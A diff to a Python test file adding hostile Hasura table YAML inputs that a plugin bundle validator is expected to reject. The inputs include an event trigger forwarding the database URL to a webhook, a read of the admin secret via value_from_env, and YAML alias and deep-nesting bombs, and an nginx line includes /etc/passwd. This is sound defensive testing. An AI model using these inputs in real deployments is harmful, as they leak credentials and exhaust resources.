@@ -294,6 +294,58 @@ def test_bundle_files_are_read_and_checked(tmp_path: Path) -> None:
         ),
         ("hasura/tables.yaml", "- table: [\n", "hasura/tables.yaml:2: not valid YAML"),
         ("hasura/tables.yaml", "table: x\n", "must be a list of Hasura table entries"),
+        # Hasura would send its own environment (the admin secret, the database's URL)
+        # to a webhook of the plugin's choosing
+        (
+            "hasura/tables.yaml",
+            "- table: {schema: notes, name: notes_items}\n  event_triggers:\n"
+            "  - name: leak\n    definition: {enable_manual: true}\n"
+            "    webhook: http://notes:3820/hook\n"
+            "    headers: [{name: X-Leak, value_from_env: HASURA_GRAPHQL_DATABASE_URL}]\n",
+            "entry 1 (notes.notes_items): event triggers are not allowed",
+        ),
+        (
+            "hasura/tables.yaml",
+            "- table: {schema: notes, name: notes_items}\n  select_permissions:\n"
+            "  - role: user\n    permission: {columns: '*', filter: {}}\n"
+            "    comment: {value_from_env: HASURA_GRAPHQL_ADMIN_SECRET}\n",
+            "value_from_env would read Hasura's own environment",
+        ),
+        (
+            "hasura/tables.yaml",
+            "- table: {schema: notes, name: notes_items}\n  computed_fields:\n"
+            "  - name: x\n    definition: {function: {schema: notes, name: f}}\n",
+            "Hasura runs their function as the database superuser",
+        ),
+        (
+            "hasura/tables.yaml",
+            "- table: {schema: notes, name: notes_items}\n  remote_relationships: []\n",
+            "remote relationships are not allowed",
+        ),
+        (
+            "hasura/tables.yaml",
+            "- table: {schema: notes, name: notes_items}\n  apollo_federation_config: {}\n",
+            "'apollo_federation_config' is not something a plugin's table entry may hold",
+        ),
+        (
+            "hasura/tables.yaml",
+            "- table: {schema: notes, name: notes_items}\n  configuration:\n"
+            "    a: &a [x, x, x, x, x, x, x, x, x, x]\n    b: [*a, *a, *a]\n",
+            "aliases (*name) are not read",
+        ),
+        (
+            "hasura/tables.yaml",
+            "- table: {schema: notes, name: notes_items}\n  configuration: "
+            + "[" * 50000
+            + "]" * 50000
+            + "\n",
+            "hasura/tables.yaml: nested too deeply",
+        ),
+        (
+            "hasura/tables.yaml",
+            "- table: {schema: notes, name: notes_items}\n" + "#" * (1 << 20) + "\n",
+            "hasura/tables.yaml is larger than 1 MiB",
+        ),
         (
             "nginx/location.conf",
             "include /etc/passwd;\n",
